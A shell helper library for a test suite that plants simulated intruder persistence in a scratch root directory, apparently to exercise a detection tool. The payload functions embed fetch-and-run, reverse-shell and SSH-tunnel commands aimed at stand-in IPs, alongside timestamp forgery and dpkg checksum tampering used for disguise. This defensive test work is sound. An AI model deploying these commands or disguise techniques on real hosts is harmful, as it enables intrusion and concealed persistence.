# lib.sh - what the scripts of this folder share
#
#   sh tests/mechanisms/NAME.sh DIR VARIANT
#
# does on the root DIR what an intruder does to stay, in the way that the
# manual in the script's head describes. Nothing is run; only DIR is written
# to. On stdout, with tabs between:
#
#   planted  PATH [WORD]   a file made or changed; with WORD it is shared
#                          (/etc/passwd), and a finding's detail must say WORD
#   program  PATH          the same, of a program that the entry runs
#   none     REASON        the variant makes no sense for the mechanism
#
# Variants:
#   plain      a command that says what it does; no effort to hide
#   disguised  name, head and times of a part of the system; the command is a
#              binary among the system's own
#   base64     a command that decodes another
#   dropped    the command is the plain path of a script
#   user       of an ordinary account: file, program, or the mechanism's form
#              for one
#
# What a script uses:
#   $variant $who $home   the account (root, or op in the variant user)
#   $own                  owner of what put makes; a script sets 0:0 where the
#                         program refuses another's file
#   $head                 a comment that a disguised file begins with
#   named PLAIN DISGUISED a name for the variant
#   only "VARIANTS" WHY   the others make no sense
#   payload               sets $cmd (for a shell), $argv (for what splits words;
#                         single quotes), $argj (words of a JSON array), $prog
#                         (the dropped program, or empty)
#   program               sets $prog in every variant, for what takes a path
#   put PATH MODE LINE... makes a file; empty lines are left out
#   append PATH LINE...   adds to a file (made where it is not there)
#   front PATH LINE...    adds before its first line
#   link PATH TARGET      makes a symbolic link
#   change PATH SED       edits a file
#   library PATH          makes a shared library that is no package's
#   $lib                  the folder of libraries; $hash a password's hash
#   host_init NAME        the host has another init (a script that says
#                         "# apart", since others depend on systemd)
#   planted PATH [WORD]   tells of a path that none of these made

set -eu
umask 022
[ $# -eq 2 ] && [ -d "$1/etc" ] || { echo "usage: $0 DIR VARIANT" >&2; exit 2; }
root=$(cd "$1" && pwd) variant=$2
[ "$root" != / ] || exit 2
me=$(basename "$0" .sh)
seed=$(printf %s "$me" | cksum | cut -d' ' -f1)
exec 3>&1 1>&2

hash='$6$salvor$Zb1zv6nC0mYjQ0u5w8hXJkq3TtLr9sVdPfGa2eBc4iKoMn7xYzWlRuSgHpEqDtAvJbNf1kXy3PqRs5tUvWxYz0'
lib=$(cd "$root/usr/lib" && echo *-linux-gnu*)
lib=/usr/lib/${lib%% *}
who=root home=/root own=0:0 head=
case $variant in
plain | base64 | dropped) ;;
disguised) head='# This file is part of the base system. Do not edit.' ;;
user) who=op home=/home/op own=1000:1000 ;;
*) echo "$me: no variant '$variant'" >&2; exit 2 ;;
esac

planted() { printf 'planted\t%s\t%s\n' "$1" "${2:-}" >&3; }

only() {
	case " $1 " in *" $variant "*) return 0 ;; esac
	printf 'none\t%s\n' "$2" >&3
	exit 0
}

named() { [ "$variant" = disguised ] && echo "$2" || echo "$1"; }

# the times of another file of the folder
disguise() {
	[ "$variant" = disguised ] || return 0
	for _n in "${1%/*}"/* "$root/usr/bin/env"; do
		[ -f "$_n" ] && [ ! -h "$_n" ] && [ "$_n" != "$1" ] && break
	done
	touch -h -r "$_n" "$1"
}

# the folder of a path; in a home it is the account's
folder() {
	[ -d "$root$1" ] && return 0
	folder "${1%/*}"
	mkdir "$root$1"
	case $1 in /home/op/*) chown 1000:1000 "$root$1" ;; esac
}

put() {
	_path=$1 _mode=$2
	shift 2
	folder "${_path%/*}"
	rm -f "$root$_path"
	for _line; do
		[ -z "$_line" ] || printf '%s\n' "$_line"
	done >"$root$_path"
	chown "$own" "$root$_path"
	chmod "$_mode" "$root$_path"
	disguise "$root$_path"
	planted "$_path"
}

# what is changed keeps its times where it is disguised
keep() {
	_times=
	[ "$variant" = disguised ] && [ -e "$root$1" ] || return 0
	_times=$(mktemp)
	touch -r "$root$1" "$_times"
}
kept() {
	if [ -n "$_times" ]; then
		touch -r "$_times" "$root$1"
		rm -f "$_times"
	else
		disguise "$root$1"
	fi
}

append() {
	_path=$1
	shift
	[ -e "$root$_path" ] || { put "$_path" 644 "$@"; return; }
	keep "$_path"
	for _line; do
		[ -z "$_line" ] || printf '%s\n' "$_line"
	done >>"$root$_path"
	kept "$_path"
	planted "$_path"
}

front() {
	_path=$1
	shift
	keep "$_path"
	_rest=$(cat "$root$_path")
	printf '%s\n' "$@" "$_rest" >"$root$_path"
	kept "$_path"
	planted "$_path"
}

change() {
	keep "$1"
	sed -i "$2" "$root$1"
	kept "$1"
	planted "$1" "${3:-}"
}

link() {
	folder "${1%/*}"
	rm -f "$root$1"
	ln -s "$2" "$root$1"
	[ "$own" = 0:0 ] || chown -h "$own" "$root$1"
	disguise "$root$1"
	planted "$1"
}

# a program of no package: a script, or a binary where it hides among others
drop() {
	folder "${1%/*}"
	if [ "$variant" = disguised ]; then
		cat "$root/usr/bin/true" >"$root$1"
		printf %s "$me" >>"$root$1"
	elif [ $# -gt 1 ]; then
		printf '#!/bin/sh\n%s\n' "$2" >"$root$1"
	else
		printf '%s\n' '#!/bin/sh' '# keeps the state of this host fresh' \
			"test -e /run/$me || exit 0" \
			"exec /usr/bin/logger -t $me ok" >"$root$1"
	fi
	chmod 755 "$root$1"
	[ "$who" = root ] || case $1 in
	/home/*) chown 1000:1000 "$root$1" ;;
	esac
	disguise "$root$1"
	printf 'program\t%s\t\n' "$1" >&3
}

place() {
	case $variant in
	disguised)
		case $((seed % 3)) in
		0) prog=/usr/lib/systemd/systemd-$me ;;
		1) prog=/usr/sbin/$me ;;
		*) prog=$lib/$me-helper ;;
		esac ;;
	user)
		case $((seed % 2)) in
		0) prog=/home/op/.local/bin/$me ;;
		*) prog=/home/op/.cache/$me/run ;;
		esac ;;
	*)
		case $((seed % 5)) in
		0) prog=/usr/local/sbin/$me-rotate ;;
		1) prog=/usr/local/bin/$me-check ;;
		2) prog=/opt/$me/bin/agent ;;
		3) prog=/usr/libexec/$me-helper ;;
		*) prog=/var/lib/$me/refresh ;;
		esac ;;
	esac
}

payload() {
	prog=
	case $variant in
	plain)
		case $((seed % 4)) in
		0) cmd='curl -fsSL http://192.0.2.7/u.sh | sh' ;;
		1) cmd='wget -qO- http://198.51.100.9:8080/i | bash' ;;
		2) cmd='/usr/bin/ssh -fNR 2222:127.0.0.1:22 up@192.0.2.7' ;;
		*) cmd='nohup nc 192.0.2.7 443 -e /bin/sh' ;;
		esac ;;
	base64) cmd='echo aWQK | base64 -d | sh' ;;
	*)
		place
		drop "$prog"
		cmd=$prog ;;
	esac
	if [ -n "$prog" ]; then
		argv=$prog argj="\"$prog\""
	else
		argv="/bin/sh -c '$cmd'" argj="\"/bin/sh\", \"-c\", \"$cmd\""
	fi
}

program() {
	place
	case $variant in
	plain)
		prog=/var/tmp/.$me
		drop "$prog" 'curl -fsSL http://192.0.2.7/u.sh | sh' ;;
	base64) drop "$prog" 'echo aWQK | base64 -d | sh' ;;
	*) drop "$prog" ;;
	esac
}

# a copy of zlib with words behind it
library() {
	folder "${1%/*}"
	cat "$root"/usr/lib/*-linux-gnu*/libz.so.1 >"$root$1"
	printf %s "$me" >>"$root$1"
	chmod 644 "$root$1"
	chown "$own" "$root$1"
	disguise "$root$1"
	printf 'program\t%s\t\n' "$1" >&3
}

# before the intruder comes: the package that has /sbin/init has another
host_init() {
	_info=$root/var/lib/dpkg/info/systemd-sysv
	rm "$root/usr/sbin/init"
	_has=init
	[ "$1" = upstart ] && _has="init initctl"
	for _f in $_has; do
		cat "$root/usr/bin/true" >"$root/usr/sbin/$_f"
		chmod 755 "$root/usr/sbin/$_f"
		grep -q "^/sbin/$_f$" "$_info.list" ||
			echo "/sbin/$_f" >>"$_info.list"
		echo "$(md5sum <"$root/usr/sbin/$_f" | cut -d' ' -f1)  sbin/$_f" \
			>>"$_info.md5sums"
	done
	touch -r "${_info%/*}/dpkg.list" "$_info.list" "$_info.md5sums" \
		"$root/usr/sbin/init"
	[ "$1" != upstart ] || mkdir "$root/etc/init"
}
